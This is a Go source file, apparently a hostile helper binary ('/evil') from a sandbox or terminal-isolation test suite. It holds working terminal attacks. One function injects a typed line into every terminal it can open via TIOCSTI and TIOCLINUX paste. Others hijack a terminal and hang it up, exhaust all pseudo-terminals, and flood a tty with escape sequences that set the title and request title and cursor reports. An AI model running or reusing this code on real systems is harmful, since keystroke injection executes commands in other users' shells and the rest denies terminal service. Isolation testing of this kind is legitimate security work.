package main

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"unsafe"

	"golang.org/x/sys/unix"
)

func sigaction(sig unix.Signal, action *[4]uint64) error {
	if _, _, errno := unix.RawSyscall6(unix.SYS_RT_SIGACTION, uintptr(sig), uintptr(unsafe.Pointer(action)), 0, 8, 0, 0); errno != 0 {
		return errno
	}
	return nil
}

// push types a word at every terminal it can reach (TIOCSTI, ioctl_tty(2)).
func push(args []string) error {
	var fds []int
	for fd := range 16 {
		fds = append(fds, fd)
	}
	terminals, _ := filepath.Glob("/dev/pts/[0-9]*")
	for _, name := range append(terminals, "/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1") {
		if fd, err := unix.Open(name, unix.O_RDWR|unix.O_NOCTTY|unix.O_NONBLOCK, 0); err == nil {
			fds = append(fds, fd)
		}
	}
	for _, fd := range fds {
		for _, c := range []byte(args[0] + "\n") {
			unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c)))
		}
		// Of Linux' virtual terminals: paste the selection.
		paste := []byte{3}
		unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCLINUX, uintptr(unsafe.Pointer(&paste[0])))
	}
	return nil
}

// hangup hangs a terminal up, as getty does.
func hangup(args []string) error {
	if _, err := unix.Setsid(); err != nil {
		return run(append([]string{"/evil", "hangup"}, args...))
	}
	fd, err := unix.Open(args[0], unix.O_RDWR, 0)
	if err != nil {
		return err
	}
	if err := unix.IoctlSetInt(fd, unix.TIOCSCTTY, 1); err != nil {
		return err
	}
	var ignore [4]uint64
	ignore[0] = 1
	sigaction(unix.SIGHUP, &ignore)
	if _, _, errno := unix.Syscall(unix.SYS_VHANGUP, 0, 0, 0); errno != 0 {
		return errno
	}
	return nil
}

// ptys takes every pty there is.
func ptys([]string) error {
	n := 0
	for ; ; n++ {
		if _, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY, 0); err != nil {
			fmt.Println("took", n, err)
			return wait()
		}
	}
}

// flood writes to a terminal, for ever or so many megabytes.
func flood(args []string) error {
	f, err := os.OpenFile(args[0], os.O_WRONLY|unix.O_NOCTTY, 0)
	if err != nil {
		return err
	}
	megabytes := -1
	if len(args) > 1 {
		megabytes, _ = strconv.Atoi(args[1])
	}
	// Escape sequences: set the title, ask for it back, and for an answer.
	line := bytes.Repeat([]byte("\x1b]0;evil\x07\x1b[21t\x1b[6n\x1bc all work and no play\r\n"), 1<<20/48)
	for i := 0; i != megabytes; i++ {
		for b := line; len(b) > 0; {
			n, err := f.Write(b)
			if err != nil {
				return err
			}
			b = b[n:]
		}
	}
	return nil
}
